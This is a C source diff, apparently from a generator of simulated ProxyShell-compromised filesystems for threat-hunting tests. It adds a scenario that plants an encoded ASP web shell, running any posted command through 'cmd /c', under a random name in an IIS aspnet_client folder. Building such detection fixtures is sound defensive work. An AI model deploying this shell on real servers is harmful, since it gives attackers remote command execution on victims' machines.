@@ -7,6 +7,7 @@
 #include "base/view.h"
 #include <stdbool.h>
 #include "hunt/hunt.h"
+#include "hunt/screnc.h"
 #include <errno.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -952,6 +953,28 @@ static void sc_proxyshell_hidden(struct gen *g)
 		backdoor(g, rel, asp, sizeof asp - 1, 1629599100);
 		backdoor(g, EXCH "/FrontEnd/HttpProxy/owa/auth/OutlookCN.aspx",
 		         dns, sizeof dns - 1, 1629599200);
+	}
+	/* Kept as old ASP shells often are: encoded with Microsoft's
+	 * Script Encoder, read only once decoded. */
+	{
+		static const char body[] =
+		    "Dim s\r\nIf Request.Form(\"q\") <> \"\" Then\r\n"
+		    "\tSet s = Server.CreateObject(\"WScript.Shell\")\r\n"
+		    "\tResponse.Write \"<pre>\" & s.Exec(\"cmd /c \" & "
+		    "Request.Form(\"q\")).StdOut.ReadAll() & \"</pre>\"\r\n"
+		    "End If\r\n";
+		char enc[2 * sizeof body + 24], page[sizeof enc + 64];
+		size_t m = screnc_encode((const uint8_t *)body, sizeof body - 1,
+		                         enc, sizeof enc);
+		int k = snprintf(page, sizeof page,
+		                 "<%%@ LANGUAGE = VBScript.Encode %%>\r\n"
+		                 "<%%%.*s%%>\r\n",
+		                 (int)m, enc);
+		rand_name(g, name, 7);
+		snprintf(rel, sizeof rel,
+		         "inetpub/wwwroot/aspnet_client/system_web/%s.asp",
+		         name);
+		backdoor(g, rel, page, (size_t)k, 1629599150);
 	}
 	/* The machine keys printed for whoever asks (as the 2025 SharePoint
 	 * drop did): forged ViewState runs code with them later. */
